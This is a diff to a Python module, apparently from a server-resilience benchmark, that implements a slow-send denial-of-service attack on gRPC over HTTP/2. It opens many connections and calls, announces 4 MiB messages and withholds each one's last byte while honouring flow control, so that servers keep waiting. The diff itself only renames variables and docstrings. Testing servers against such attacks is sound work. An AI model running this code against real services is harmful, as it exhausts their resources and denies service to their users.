@@ -1,4 +1,4 @@
-"""Calls whose messages lack their last byte."""
+"""An attack by gRPC messages without their last byte, so that servers wait for it."""
 
 import asyncio
 import contextlib
@@ -8,39 +8,39 @@ from bench.hostile import frames, payloads
 from bench.hostile.attacks.sockets import CLOSED
 from bench.hostile.attacks.target import Target, host_and_port
 
-_CONNECTIONS, _CALLS = 100, 10
-_LENGTH = 4 << 20
+_CONNECTIONS, _CALLS_EACH = 100, 10
+_MESSAGE_BYTES = 4 << 20
 """Announced bytes of a message."""
-_CHUNK = 1 << 14
-"""Bytes of a frame: the most that a server takes by default."""
+_FRAME_BYTES = 1 << 14
+"""Bytes of a frame: the largest that a server accepts by default."""
 
 
-async def half_sent(target: Target, length: int = _LENGTH) -> Counter[str]:
+async def send_half_messages(target: Target, length: int = _MESSAGE_BYTES) -> Counter[str]:
     """Sends a thousand messages of `length` bytes without their last byte."""
     every = (_Connection(target, length) for _ in range(_CONNECTIONS))
-    return Counter(await asyncio.gather(*(connection.play() for connection in every)))
+    return Counter(await asyncio.gather(*(connection.run() for connection in every)))
 
 
 class _Connection:
-    """One connection with several calls, which sends as much as the server's windows allow."""
+    """One connection with several calls. It sends as much as HTTP/2 flow control allows."""
 
     def __init__(self, target: Target, length: int) -> None:
         self._target, self._length = target, length
-        self._initial = self._room = frames.INITIAL_WINDOW
-        self._rooms = dict.fromkeys(range(1, 2 * _CALLS, 2), frames.INITIAL_WINDOW)
-        self._left = dict.fromkeys(self._rooms, length - 1)
-        self._more = asyncio.Event()
+        self._initial_window = self._connection_window = frames.INITIAL_WINDOW
+        self._stream_windows = dict.fromkeys(range(1, 2 * _CALLS_EACH, 2), frames.INITIAL_WINDOW)
+        self._unsent_bytes = dict.fromkeys(self._stream_windows, length - 1)
+        self._received = asyncio.Event()
 
-    async def play(self) -> str:
+    async def run(self) -> str:
         """Sends until the time is over, or the server closes the connection."""
         with contextlib.suppress(TimeoutError):
             async with asyncio.timeout(self._target.seconds):
-                await self._talk()
+                await self._send_and_receive()
                 return CLOSED
         return "held"
 
-    async def _talk(self) -> None:
-        """Returns when the server closes the connection."""
+    async def _send_and_receive(self) -> None:
+        """Sends messages and handles frames until the server closes the connection."""
         try:
             reader, writer = await asyncio.open_connection(*host_and_port(self._target.front))
             with contextlib.closing(writer):
@@ -49,27 +49,27 @@ class _Connection:
                     group.create_task(self._receive(reader, writer))
                     group.create_task(self._send(writer))
         except* (OSError, asyncio.IncompleteReadError):
-            pass  # the server closed it, too
+            pass  # the server closed the connection
 
     async def _send(self, writer: asyncio.StreamWriter) -> None:
-        for stream in self._rooms:
-            head = frames.message_head(self._length)
-            self._take(stream, len(head))
-            writer.write(frames.call(stream, payloads.ANSWER))
-            writer.write(frames.frame(frames.DATA, stream, head))
-        while self._left:
-            self._more.clear()
-            if not await self._chunks(writer):
-                await self._more.wait()
+        for stream in self._stream_windows:
+            prefix = frames.message_prefix(self._length)
+            self._use_window(stream, len(prefix))
+            writer.write(frames.call_headers(stream, payloads.ANSWER))
+            writer.write(frames.frame(frames.DATA, stream, prefix))
+        while self._unsent_bytes:
+            self._received.clear()
+            if not await self._send_frames(writer):
+                await self._received.wait()
 
-    async def _chunks(self, writer: asyncio.StreamWriter) -> int:
-        """Sends a frame of every call that may send one; returns their number."""
+    async def _send_frames(self, writer: asyncio.StreamWriter) -> int:
+        """Sends a frame of every call with room in its window; returns the number of frames."""
         sent = 0
-        for stream, left in list(self._left.items()):
-            size = min(_CHUNK, left, self._room, self._rooms[stream])
+        for stream, unsent in list(self._unsent_bytes.items()):
+            size = min(_FRAME_BYTES, unsent, self._connection_window, self._stream_windows[stream])
             if size > 0:
-                self._take(stream, size)
-                self._left[stream] -= size
+                self._use_window(stream, size)
+                self._unsent_bytes[stream] -= size
                 writer.write(frames.frame(frames.DATA, stream, bytes(size)))
                 sent += 1
         await writer.drain()
@@ -77,7 +77,7 @@ class _Connection:
 
     async def _receive(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         while True:
-            head = frames.head(await reader.readexactly(frames.HEAD))
+            head = frames.parse_header(await reader.readexactly(frames.HEADER_BYTES))
             payload = await reader.readexactly(head.length)
             if head.kind == frames.GOAWAY:
                 raise ConnectionResetError
@@ -85,23 +85,23 @@ class _Connection:
                 echo = payload if head.kind == frames.PING else b""
                 writer.write(frames.frame(head.kind, 0, echo, frames.ACK))
             self._apply(head, payload)
-            self._more.set()
+            self._received.set()
 
-    def _apply(self, head: frames.Head, payload: bytes) -> None:
+    def _apply(self, head: frames.FrameHeader, payload: bytes) -> None:
         if head.kind == frames.RST_STREAM:
-            self._left.pop(head.stream, None)
+            self._unsent_bytes.pop(head.stream, None)
         elif head.kind == frames.WINDOW_UPDATE:
-            more = int.from_bytes(payload, "big")
+            increment = int.from_bytes(payload, "big")
             if head.stream:
-                self._rooms[head.stream] += more
+                self._stream_windows[head.stream] += increment
             else:
-                self._room += more
+                self._connection_window += increment
         elif head.kind == frames.SETTINGS:
             for size in frames.window_sizes(payload):
-                for stream in self._rooms:
-                    self._rooms[stream] += size - self._initial
-                self._initial = size
+                for stream in self._stream_windows:
+                    self._stream_windows[stream] += size - self._initial_window
+                self._initial_window = size
 
-    def _take(self, stream: int, size: int) -> None:
-        self._room -= size
-        self._rooms[stream] -= size
+    def _use_window(self, stream: int, size: int) -> None:
+        self._connection_window -= size
+        self._stream_windows[stream] -= size
